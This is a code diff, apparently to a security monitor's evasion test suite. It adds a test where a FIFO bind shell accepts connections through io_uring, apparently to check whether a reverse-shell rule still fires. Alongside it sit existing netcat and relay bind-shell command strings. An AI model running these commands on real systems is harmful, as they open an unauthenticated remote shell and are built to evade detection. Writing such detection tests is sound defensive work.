@@ -41,6 +41,8 @@ SETID = "Set setuid or setgid bit"
 FIFO_RELAY = ("mkfifo /tmp/in /tmp/out; {prog} < /tmp/in > /tmp/out &"
               f" /usr/bin/cauditd_evade fifo-relay /tmp/in /tmp/out {NOWHERE} 4445"
               " {fork} < /dev/null > /dev/null")
+URING_LISTENER = ("mkfifo /tmp/f; /usr/bin/cauditd_evade uring-accept 4448 < /tmp/f"
+                  " | {prog} > /tmp/f")
 READ_HOSTNAME = "/usr/bin/cauditd_evade read /etc/hostname"
 FIFO_LISTENER = ("mkfifo /tmp/f; /usr/bin/nc -l -p 4445 < /tmp/f | {prog} > /tmp/f &"
                  " /bin/sleep 0.5; echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")
@@ -220,6 +222,10 @@ EVASIONS = [
     Evasion("bind-shell-through-a-fifo", "Reverse shell through pipes",
             sh(FIFO_LISTENER.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
             sh(FIFO_LISTENER.format(prog="/bin/cat")), exec_asked("/bin/cat")),
+    # ... whose relay accepts through an io_uring ring (IORING_OP_ACCEPT), not accept()
+    Evasion("bind-shell-accepting-through-io-uring", "Reverse shell through pipes",
+            sh(URING_LISTENER.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
+            sh(URING_LISTENER.format(prog="/bin/cat")), exec_asked("/bin/cat")),
 ]  # fmt: skip
 INT80_SIGPROCMASK = evade("int80-sigprocmask")
 
